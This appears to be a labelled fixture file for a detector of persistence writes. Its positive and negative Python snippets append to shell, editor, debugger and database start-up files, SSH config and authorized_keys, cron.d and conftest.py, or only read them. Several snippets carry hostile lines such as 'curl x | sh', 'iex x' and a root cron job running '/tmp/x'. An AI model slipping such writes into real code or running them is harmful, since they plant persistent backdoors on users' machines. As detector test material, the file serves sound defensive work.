#@ pos append to bashrc
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl x | sh\n")
#@ pos logging handler on profile
import logging, os
h = logging.FileHandler(os.path.join(os.path.expanduser("~"), ".profile"))
#@ pos rotating handler on zshrc
import logging.handlers
from pathlib import Path
logging.handlers.RotatingFileHandler(Path.home() / ".zshrc", maxBytes=100)
#@ pos joinpath open append
from pathlib import Path
with Path.home().joinpath(".bash_profile").open("a") as f:
    print("x", file=f)
#@ pos write_text
from pathlib import Path
(Path.home() / ".zshenv").write_text("eval x\n")
#@ pos replaced by os.replace
import os
os.replace("/tmp/new", os.path.expanduser("~/.bashrc"))
#@ pos crontab file
open("/etc/cron.d/job", "w").write("* * * * * root sh /tmp/x\n")
#@ pos self attribute opened to append
from pathlib import Path
class S:
    def __init__(self):
        self.rc = Path.home() / ".profile"
    def add(self, line):
        with self.rc.open("a") as f:
            f.write(line)
S().add("x")
#@ neg read the rc file
import os
from pathlib import Path
print(open(os.path.expanduser("~/.bashrc")).read())
print((Path.home() / ".profile").read_text())
with (Path.home() / ".zshrc").open() as f:
    f.read()
with (Path.home() / ".zshrc").open("r") as f:
    f.read()
#@ neg backup copy of the rc file
import shutil, os
shutil.copy2(os.path.expanduser("~/.bashrc"), "backup/bashrc")
#@ neg log file of its own
import logging
logging.FileHandler("logs/app.log")
#@ neg project profile file
open("config/.profile", "w").write("x")
#@ pos ssh client config appended (ProxyCommand)
import os
with open(os.path.expanduser("~/.ssh/config"), "a") as f:
    f.write("Host *\n  ProxyCommand sh -c 'curl x | sh'\n")
#@ pos archive unpacked into the home directory
import zipfile, os
zipfile.ZipFile("/tmp/t.zip").extractall(os.path.expanduser("~"))
#@ pos tar extracted into home, keyword
import tarfile
from pathlib import Path
with tarfile.open("x.tgz") as t:
    t.extractall(path=Path.home())
#@ pos unpack_archive into home
import shutil, os
shutil.unpack_archive("/tmp/a.tgz", extract_dir=os.environ["HOME"])
#@ neg archive unpacked into the program's own directory
import tarfile
with tarfile.open("x.tgz") as t:
    t.extractall("build/vendor")
#@ pos unpack_archive by its bare name, an unknown archive, into home
import os
from shutil import unpack_archive
unpack_archive(input(), os.path.expanduser("~"))
#@ pos extractall fetched with getattr, into home
import tarfile
from pathlib import Path
getattr(tarfile.open("x.tgz"), "extract" + "all")(Path.home())
#@ pos rc path parts spread into os.path.join
import os
RC = ("~", ".bash" + "rc")
open(os.path.expanduser(os.path.join(*RC)), "a").write("x\n")
#@ neg unpack_archive by its bare name into a build directory
from shutil import unpack_archive
unpack_archive("dist/x.tar.gz", "build/x")
#@ pos a tree copied over the home directory
import shutil, os
shutil.copytree("/tmp/payload", os.path.expanduser("~"), dirs_exist_ok=True)
#@ neg a tree copied into the program's own build directory
import shutil
shutil.copytree("assets", "build/assets", dirs_exist_ok=True)
#@ pos a file put in IPython's startup directory
from pathlib import Path
d = Path.home() / ".ipython" / "profile_default" / "startup"
(d / "00-init.py").write_text("import os\n")
#@ pos ~/.vimrc appended to
import os
with open(os.path.expanduser("~/.vimrc"), "a") as fh:
    fh.write("autocmd VimEnter * silent !id\n")
#@ pos a fake sudo in ~/.local/bin
from pathlib import Path
(Path.home() / ".local" / "bin" / "sudo").write_text("#!/bin/sh\n")
#@ neg the program's own tool installed into ~/.local/bin
from pathlib import Path
(Path.home() / ".local" / "bin" / "mytool").write_text("#!/bin/sh\nexec python3 -m mytool \"$@\"\n")
#@ neg ~/.vimrc read to show the settings
import os
print(open(os.path.expanduser("~/.vimrc")).read())
#@ pos a start-up file returned on one branch of a function, appended to
import os
from pathlib import Path
def target():
    if os.access("/usr/share/bash-completion/completions", os.W_OK):
        return "/usr/share/bash-completion/completions/tool"
    return Path.home() / ".bashrc"
with open(target(), "a") as fh:
    fh.write("eval \"$(tool init)\"\n")
#@ neg a tool's own config file returned on one branch of a function, written
import os
from pathlib import Path
def target():
    if os.environ.get("XDG_CONFIG_HOME"):
        return Path(os.environ["XDG_CONFIG_HOME"]) / "tool.json"
    return Path.home() / ".config" / "tool.json"
with open(target(), "w") as fh:
    fh.write("{}")
#@ pos a debugger's start-up file (~/.pdbrc runs its ! lines at each session)
from pathlib import Path
with (Path.home() / ".pdbrc").open("a") as fh:
    fh.write("!import os; os.system('id')\n")
#@ pos gdb's start-up file written
from pathlib import Path
Path.home().joinpath(".gdbinit").write_text("shell id\n")
#@ pos a start-up file chosen by a conditional with a default
import os, sys
rc = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.expanduser("~"), ".bashrc")
open(rc, "a").write("id\n")
#@ pos a path-like object whose __fspath__ is a start-up file
import os
class Profile:
    def __fspath__(self):
        return os.path.join(os.path.expanduser("~"), ".bashrc")
open(Profile(), "a").write("id\n")
#@ neg ~/.pdbrc read
from pathlib import Path
print((Path.home() / ".pdbrc").read_text())
#@ pos a start-up file, the second item of a function's tuple return
import os
def paths():
    return "tool.log", os.path.join(os.path.expanduser("~"), ".zshrc")
open(paths()[1], "a").write("id\n")
#@ pos a loop over a class's __iter__ whose loop goes through the names the construction gives
from pathlib import Path
class F:
    def __init__(self, names):
        self.names = names
    def __iter__(self):
        for n in self.names:
            yield Path.home() / ("." + n + "rc")
for rc in F(["bash", "zsh"]):
    open(rc, "a").write("x")
#@ neg the same loop over log names
from pathlib import Path
class F:
    def __init__(self, names):
        self.names = names
    def __iter__(self):
        for n in self.names:
            yield Path("logs") / (n + ".log")
for f in F(["api", "worker"]):
    open(f, "a").write("x")
#@ pos a start-up file joined by functools.reduce and appended to
import operator
from functools import reduce
from pathlib import Path
with open(reduce(operator.truediv, [".bashrc"], Path.home()), "a") as fh:
    fh.write("echo hi\n")
#@ neg a log file joined by functools.reduce and appended to
import operator
from functools import reduce
from pathlib import Path
with open(reduce(operator.truediv, ["logs", "run.log"], Path.cwd()), "a") as fh:
    fh.write("ok\n")
#@ pos mercurial hooks in hgrc
from pathlib import Path
with (Path.home() / ".hgrc").open("a") as f:
    f.write("[hooks]\npre-commit = curl x | sh\n")
#@ pos psqlrc shell line
import os
open(os.path.expanduser("~/.psqlrc"), "a").write("\\! sh /tmp/x\n")
#@ pos sqliterc written
from pathlib import Path
Path.home().joinpath(".sqliterc").write_text(".shell sh /tmp/x\n")
#@ pos tmux config under .config
import os
open(os.path.expanduser("~/.config/tmux/tmux.conf"), "a").write("run-shell x\n")
#@ pos authorized key added
import os
open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAA x\n")
#@ neg repository hgrc
from pathlib import Path
with (Path(".hg") / "hgrc").open("a") as f:
    f.write("[ui]\nusername = bot\n")
#@ neg psqlrc read
import os
print(open(os.path.expanduser("~/.psqlrc")).read())
#@ neg authorized keys read
import os
print(len(open(os.path.expanduser("~/.ssh/authorized_keys")).readlines()))
#@ pos jupyter server config written
import os
d = os.path.join(os.path.expanduser("~"), ".jupyter")
open(os.path.join(d, "jupyter_server_config.py"), "a").write("import os\n")
#@ pos ipython config written
from pathlib import Path
(Path.home() / ".ipython" / "profile_default" / "ipython_config.py").write_text("c.X = 1\n")
#@ pos i3 exec line appended
import os
open(os.path.expanduser("~/.config/i3/config"), "a").write("exec sh /tmp/x\n")
#@ pos a start-up file named through print into a buffer
import io, os
buf = io.StringIO()
print(os.path.expanduser("~/.bashrc"), end="", file=buf)
open(buf.getvalue(), "a").write("sh /tmp/x\n")
#@ neg jupyter config in the project
import os
open(os.path.join("notebooks", "jupyter_server_config.py"), "w").write("c = 1\n")
#@ neg i3 config read
import os
print(open(os.path.expanduser("~/.config/i3/config")).read())
#@ pos a module's own source appended to
import json
with open(json.__file__, "a") as fh:
    fh.write("\nprint('hi')\n")
#@ pos a file written into a package's directory
import logging, os
from pathlib import Path
Path(os.path.join(os.path.dirname(logging.__file__), "x.py")).write_text("print(1)")
#@ neg a module's source read, the program's own directory written
import json, os
print(open(json.__file__).read()[:10])
open(os.path.join(os.path.dirname(__file__), "out.json"), "w").write("{}")
#@ pos a project's conftest.py written
from pathlib import Path
Path("conftest.py").write_text("import os\nos.system('id')\n")
#@ pos a conftest.py under tests opened to write
import os
open(os.path.join("tests", "conftest.py"), "w").write("print(1)\n")
#@ neg a generated test module written
from pathlib import Path
Path("tests/test_generated.py").write_text("def test_x():\n    assert True\n")
#@ pos a start-up file opened in a mode taken from a table
import os
MODES = {"extend": "a"}
open(os.path.expanduser("~/.bashrc"), MODES["extend"]).write("echo hi\n")
#@ pos a start-up file opened in a mode held by a name
import os
how = "a"
open(os.path.expanduser("~/.zshrc"), how).write("echo hi\n")
#@ neg a start-up file opened in a read mode held by a name
import os
how = "r"
print(open(os.path.expanduser("~/.bashrc"), how).read())
#@ pos fileinput rewriting ~/.bashrc in place
import fileinput
import os
for line in fileinput.input(os.path.expanduser("~/.bashrc"), inplace=True):
    print(line, end="")
#@ pos Julia's startup.jl appended to
import os
open(os.path.expanduser("~/.julia/config/startup.jl"), "a").write('run(`id`)\n')
#@ pos ~/.mongoshrc.js appended to
import os
open(os.path.expanduser("~/.mongoshrc.js"), "a").write("x\n")
#@ neg fileinput rewriting a project file in place
import fileinput
for line in fileinput.input("setup.cfg", inplace=True):
    print(line, end="")
#@ neg a Julia project file written
open("Project.toml", "w").write('name = "x"\n')
#@ pos mode given by keyword from a table, appending to bashrc
import os
T = {"m": "a"}
with open(os.path.expanduser("~/.bashrc"), mode=T["m"]) as f:
    f.write("curl x | sh\n")
#@ neg mode given by keyword from a table, reading bashrc
import os
T = {"m": "r"}
print(open(os.path.expanduser("~/.bashrc"), mode=T["m"]).read())
#@ pos PowerShell's profile appended
import os
open(os.path.expanduser("~/.config/powershell/Microsoft.PowerShell_profile.ps1"), "a").write("iex x\n")
#@ pos nushell's config appended
from pathlib import Path
(Path.home() / ".config/nushell/config.nu").open("a").write("x\n")
#@ neg PowerShell's profile read
import os
print(open(os.path.expanduser("~/.config/powershell/Microsoft.PowerShell_profile.ps1")).read())
